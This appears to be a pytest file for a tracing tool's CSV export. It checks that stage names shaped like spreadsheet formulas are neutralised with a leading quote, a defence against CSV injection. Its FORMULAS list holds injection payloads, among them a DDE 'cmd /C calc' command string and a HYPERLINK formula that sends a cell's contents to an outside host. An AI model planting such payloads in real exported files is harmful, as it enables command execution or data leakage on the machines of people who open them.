"""CSV cells a spreadsheet opens as text (issue 45): a stage named like a formula is written
after a single quote, as OWASP advises for CSV injection."""

from __future__ import annotations

import csv
import io

import pytest
from typer.testing import CliRunner

from trace_gaps.cli import app
from trace_gaps.render.csv import inert_cell

runner = CliRunner()

FORMULAS = [
    '=HYPERLINK("http://example.com/x?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_formula_is_quoted(name):
    assert inert_cell(name) == "'" + name


@pytest.mark.parametrize("name", ["forward", "(no stage)", "a=b", "x-1", "", "'=quoted"])
def test_other_text_is_written_as_is(name):
    assert inert_cell(name) == name


def test_stages_named_like_formulas_reach_the_csv_as_text(export_builder):
    builder = export_builder()
    names = FORMULAS[:4]
    for s in range(3):
        base = s * 100_000
        builder.range("step", base, base + 90_000)
        for i, name in enumerate(names):
            start = base + i * 10_000
            builder.range(name, start, start + 9_000)
            builder.launch(name, start + 100, start + 600, start + 1_000, start + 8_000)
    result = runner.invoke(app, ["analyze", str(builder.write()), "--skip", "0", "-f", "csv"])
    assert result.exit_code == 0, result.output
    stages = {row["stage"] for row in csv.DictReader(io.StringIO(result.stdout))}
    assert {"'" + name for name in names} <= stages
    assert not any(stage.startswith(("=", "+", "-", "@")) for stage in stages)
